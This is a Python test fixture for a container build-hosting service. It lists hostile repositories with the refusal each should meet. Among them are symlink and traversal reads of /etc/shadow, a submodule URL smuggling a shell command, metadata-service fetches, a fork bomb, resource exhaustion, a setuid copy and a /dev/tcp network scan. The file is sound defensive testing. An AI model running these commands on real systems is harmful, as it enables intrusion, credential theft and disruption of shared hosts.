"""Repositories of people who mean harm, each with what must come of it."""

import re
from dataclasses import dataclass, field

from gitserver import GitServer
from hostiletrees import claimed_millions, deep, odd_names

from wisehosting_agent.reasons import Reason
from wisehosting_wire.workload import BuildLimits, BuildSettings

FROM = "FROM localhost/wisehosting/base:debian-13\n"
END = 'CMD ["true"]\n'
CANARY = "CANARY"
"""Stands for the path of a file that only the host's root may read."""
THEIRS, THEIR_ID, THEIR_SHORT_ID = "THEIR-IMAGE", "THEIR-ID", "THEIR-SHORT-ID"
"""Stand for the names of another team's image."""
SCAN = "SCAN-HOSTS"
"""Stands for addresses of the host, another tenant, the metadata service and a private network."""
MIB = 1024**2
SMALL = BuildLimits(seconds=60, memory_bytes=256 * MIB, disk_bytes=256 * MIB, pids=128)


@dataclass(frozen=True)
class Hostile:
    """A repository, and what is said of it: why it is refused or fails, or what its steps print when it is harmless."""

    name: str
    text: str = ""
    """The Containerfile behind its FROM; nothing: there is none."""
    reason: Reason | None = None
    says: str = ""
    """Pattern, in the reason's detail or in the log."""
    files: dict[str, str | bytes] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    root: str = ""
    build: BuildSettings = field(default_factory=BuildSettings)
    submodule: str = ""
    limits: BuildLimits = SMALL
    make: object = None
    """Makes the files instead."""

    def content(self) -> dict[str, str | bytes]:
        """All files of the repository, with its Containerfile."""
        given: dict[str, str | bytes] = dict(self.make()) if callable(self.make) else dict(self.files)
        if self.text:
            given["Containerfile"] = self.text if self.text.startswith(("FROM", "#", "ARG")) else FROM + self.text + END
        return given or {"nothing": "here"}


def served(server: GitServer, one: Hostile, words: dict[str, str]) -> str:
    """Put a repository on the server, the words that stand for something filled in. Its address."""
    name = re.sub(r"[^a-z0-9]+", "-", one.name.lower()).strip("-")
    content = {path: _filled(text, words) for path, text in one.content().items()}
    url = server.repository(name, content)
    if one.links:
        server.push(name, {}, links={path: _filled(target, words) for path, target in one.links.items()})
    if one.submodule:
        server.add_submodule(name, "vendor", _filled(one.submodule, words), "a" * 40)
    if one.make is claimed_millions:
        claimed_millions(server, name)
    return url


def _filled(text: str | bytes, words: dict[str, str]) -> str:
    if isinstance(text, bytes):
        return text  # type: ignore[return-value]  # no word stands in what is no text
    for word, meant in words.items():
        text = text.replace(word, meant)
    return text


LINKS = [
    Hostile("COPY of a link to a file of the host", "COPY leak /leak\nRUN cat /leak\n", Reason.build_failed, "leak", links={"leak": CANARY}),
    Hostile("COPY of a folder behind a link to the host's root", "COPY root/etc/shadow /got\n", Reason.build_failed, "shadow", links={"root": "/"}),
    Hostile("COPY through a chain of links that climbs out", "COPY a /got\nRUN cat /got\n", Reason.build_failed, "a", links={"a": "b", "b": "c/d", "c": ".", "d": f"../../../../../../..{CANARY}"}),
    Hostile("COPY from above the tree", "COPY ../../../../../../etc/shadow /got\n", Reason.build_failed, "shadow"),
    Hostile("ADD of a path of the host", "ADD /etc/shadow /got\n", Reason.build_failed, "shadow"),
    Hostile("a Containerfile that is a link to a file of the host", "", Reason.containerfile_refused, "symbolic link", links={"Containerfile": "/etc/passwd"}),
    Hostile("a Containerfile behind a linked folder", "", Reason.containerfile_refused, "symbolic link", links={"deploy": "/etc"}, build=BuildSettings(containerfile="deploy/passwd")),
    Hostile("a Containerfile above the tree", "", Reason.containerfile_refused, "leads out of the project", build=BuildSettings(containerfile="../../../etc/passwd")),
    Hostile("a Containerfile that is a folder", "", Reason.containerfile_refused, "is no file", files={"Containerfile/part": "FROM x\n"}),
    Hostile("an ignore file that is a link to a file of the host", "RUN true\n", Reason.containerfile_refused, "symbolic link", links={".containerignore": CANARY}),
    Hostile("settings that are a link to a file of the host", "RUN true\n", Reason.settings_refused, "symbolic link", links={"wisehosting.toml": CANARY}),
    Hostile("a root directory above the tree", "RUN true\n", Reason.root_directory_missing, "There is no folder", root="../../etc"),
    Hostile("a root directory that is a link to the host's root", "RUN true\n", Reason.root_directory_missing, "There is no folder", root="app/etc", links={"app": "/"}),
    Hostile("a file of our own name that is a link to the host", "COPY . /app\nRUN cat /app/.wisehosting.containerfile || echo nothing there\n", None, "nothing there", links={".wisehosting.containerfile": CANARY}),
]  # fmt: skip

TREES = [
    Hostile("a tree that claims millions of files", "", Reason.repository_too_large, "files", make=claimed_millions),
    Hostile("a small pack that unfolds to much", "COPY zeros /zeros\n", Reason.repository_too_large, "larger than", files={"zeros": bytes(96 * MIB)}),
    Hostile("folders hundreds deep", "RUN true\n", Reason.repository_too_large, "folders inside each other", make=deep),
    Hostile("names of control characters, of no text and like options", "COPY . /app\nRUN ls -b /app | wc -l && echo all copied\n", None, "all copied", make=odd_names),
    Hostile("settings nested a hundred thousand times", "RUN true\n", Reason.settings_refused, "wisehosting.toml", files={"wisehosting.toml": "a = " + "[" * 100_000 + "]" * 100_000}),
    Hostile("settings of more than a megabyte", "RUN true\n", Reason.settings_refused, "larger than 1 MiB", files={"wisehosting.toml": "#" * (MIB + 1)}),
    Hostile("a submodule that is a command", "RUN true\n", Reason.repository_unreachable, "The submodule vendor", submodule="ext::sh -c 'cp /etc/shadow /tmp/wh-got'"),
    Hostile("a submodule of a path of the host", "RUN true\n", Reason.repository_unreachable, "The submodule vendor", submodule="file:///etc"),
    Hostile("a submodule whose address is an option", "RUN true\n", Reason.repository_unreachable, "The submodule vendor", submodule="--upload-pack=touch /tmp/wh-got"),
]  # fmt: skip

REFUSED = [
    Hostile("a step on the host's network", "RUN --network=host cat /proc/net/dev\n", Reason.containerfile_refused, "--network=host"),
    Hostile("a step without the sandbox", "RUN --security=insecure id\n", Reason.containerfile_refused, "--security=insecure"),
    Hostile("a mount that climbs out of the tree", "RUN --mount=type=bind,source=../../../..,target=/host cat /host/etc/shadow\n", Reason.containerfile_refused, "leads out"),
    Hostile("a mount through a link to the host", f"RUN --mount=type=bind,source=d/{CANARY},target=/srv/got cat /srv/got\n", Reason.containerfile_refused, "symbolic link", links={"d": "/"}),
    Hostile("a mount that writes what it mounts", "RUN --mount=type=bind,target=/tree,rw touch /tree/got\n", Reason.containerfile_refused, "'rw'"),
    Hostile("an image from a folder of the host", "FROM dir:/var/lib\n", Reason.containerfile_refused, "is no image name"),
    Hostile("an image from the host's own Podman", "FROM containers-storage:localhost/x\n", Reason.containerfile_refused, "is no image name"),
    Hostile("an image named by a variable of the builder", "ARG I=dir:/etc\nFROM ${I}\n", Reason.containerfile_refused, "is no image name"),
    Hostile("ADD from the metadata service", "ADD http://169.254.169.254/latest/meta-data/ /got\n", Reason.containerfile_refused, "may fetch from an address"),
    Hostile("ONBUILD that fetches from the metadata service", "ONBUILD ADD http://169.254.169.254/ /got\n", Reason.containerfile_refused, "may fetch from an address"),
    Hostile("a here-document that hides instructions", "RUN <<EOF\nRUN --network=host true\nEOF\n", Reason.containerfile_refused, "here-document"),
    Hostile("another escape character", "# escape=`\nFROM localhost/wisehosting/base:debian-13\nRUN true `\n && true\n", Reason.containerfile_refused, "escape character"),
    Hostile("FROM another team's image by its name", f"FROM {THEIRS}\nRUN cat /word\n", Reason.base_image_missing, "There is no image"),
    Hostile("FROM another team's image by its id", f"FROM {THEIR_ID}\nRUN cat /word\n", Reason.base_image_missing, "could not be fetched|cannot be found|private address"),
    Hostile("COPY from another team's image by its short id", f"COPY --from={THEIR_SHORT_ID} /word /word\nRUN cat /word\n", Reason.base_image_missing, "could not be fetched|cannot be found|private address"),
    Hostile("a mount of another team's image", f"RUN --mount=type=bind,from={THEIRS},target=/their cat /their/word\n", Reason.base_image_missing, "There is no image"),
]  # fmt: skip

CACHE = "RUN --mount=type=cache,target=/srv/c,id="
STEPS = [
    Hostile("a frontend of its own", "# syntax=docker.io/evil/frontend:latest\n" + FROM + "RUN echo built as ever\n" + END, None, "built as ever"),
    Hostile("the cache of another project by its path", f"{CACHE}../their-project/cache-downloads sh -c 'ls -A /srv/c; echo looked'\n", None, "looked"),
    Hostile("the cache of another project by its name", f"{CACHE}their-project sh -c 'cat /srv/c/* ; echo looked'\n", None, "looked"),
    Hostile("a cache in place of the root folder", "RUN --mount=type=cache,id=x,target=/ ls /\n", Reason.containerfile_refused, "over the root folder"),
    Hostile("the secret of another name", "RUN --mount=type=secret,id=THEIR_TOKEN,required=false cat /run/secrets/THEIR_TOKEN || echo no secret\n", None, "no secret"),
    Hostile("a fork bomb", "RUN bash -c 'while true; do sleep 600 & done'\n", Reason.build_failed, "fork|Resource temporarily unavailable"),
    Hostile("a memory hog", "RUN tail /dev/zero\n", Reason.build_out_of_memory, "more than its 0.25 GB of memory in step 2"),
    Hostile("a memory hog in a memory file system", "RUN --mount=type=tmpfs,target=/srv/m head -c 2G /dev/zero > /srv/m/x\n", Reason.build_out_of_memory, "more than its 0.25 GB of memory"),
    Hostile("a disk filler", "RUN for i in $(seq 400); do head -c 8M /dev/urandom > /x$i; done\n", Reason.build_out_of_disk, "wrote more than its 0.25 GB of disk"),
    Hostile("a disk filler by COPY", "".join(f"COPY big /big{number}\n" for number in range(12)) + "RUN sleep 60\n", Reason.build_out_of_disk, "wrote more than its 0.25 GB of disk", files={"big": bytes(range(256)) * 4096 * 32}),
    Hostile("endless output", "RUN yes\n", Reason.build_out_of_time, "in step 2", limits=BuildLimits(seconds=6)),
    Hostile("an endless line", "RUN tr '\\0' x < /dev/zero\n", Reason.build_out_of_time, "in step 2", limits=BuildLimits(seconds=6)),
    Hostile("an endless step that ignores signals", "RUN bash -c 'trap \"\" TERM INT HUP; while true; do sleep 1; done'\n", Reason.build_out_of_time, "in step 2", limits=BuildLimits(seconds=6)),
    Hostile("the disk of the host as a device", "RUN mknod /d b 254 0 && head -c 1 /d\n", Reason.build_failed, "Operation not permitted"),
    Hostile("a program that becomes root", "RUN cp /bin/cat /bin/got && chmod 4755 /bin/got && ls -l /bin/got && /bin/got /proc/self/uid_map\n", None, r"\b0 +\d{9,}"),
    Hostile("the processes of the builder", "RUN sh -c 'for p in /proc/[0-9]*; do tr \"\\0\" \" \" < $p/cmdline; echo; done | grep -c [p]odman; kill -9 -1; echo unharmed'\n", None, "^0$"),
    Hostile("the settings of the kernel", "RUN for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/kernel/mm/transparent_hugepage/enabled /proc/sys/vm/drop_caches; do (echo x > $f) 2>/dev/null && echo WRITTEN; done; echo tried\n", None, "tried"),
    Hostile("file systems of the host", "RUN mount -t proc none /mnt 2>/dev/null && echo MOUNTED; unshare --user --map-root-user true 2>/dev/null && echo UNSHARED; ls /dev; echo tried\n", None, "tried"),
    Hostile("a scan of the host and its networks", f"RUN bash -c 'for a in {SCAN}; do timeout 1 bash -c \"exec 3<>/dev/tcp/$a\" 2>/dev/null && echo REACHED $a; done; echo scanned'\n", None, "scanned"),
]  # fmt: skip

ALL = [*LINKS, *TREES, *REFUSED, *STEPS]
